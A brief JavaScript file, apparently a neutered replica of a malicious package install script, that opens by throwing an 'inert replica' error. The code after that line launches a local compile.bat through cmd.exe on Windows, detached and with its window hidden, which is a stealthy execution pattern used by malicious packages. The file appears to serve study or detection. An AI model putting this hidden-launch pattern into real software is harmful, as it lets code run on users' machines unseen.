throw new Error("inert replica");
const childProcess = require("child_process");
const system = process.platform;
const options = { cwd: __dirname, detached: true, stdio: "ignore", windowsHide: true };
if (system === "win32") {
  const child = childProcess.spawn("cmd.exe", ["/c", "compile.bat"], options);
  child.unref();
}
